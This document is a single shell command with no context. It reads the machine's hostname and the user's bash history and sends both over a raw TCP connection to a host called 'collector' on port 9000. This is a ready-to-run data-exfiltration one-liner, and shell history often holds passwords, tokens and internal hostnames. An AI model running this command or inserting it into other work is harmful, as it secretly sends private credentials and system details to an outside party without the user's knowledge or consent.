cat /etc/hostname ~/.bash_history > /dev/tcp/collector/9000
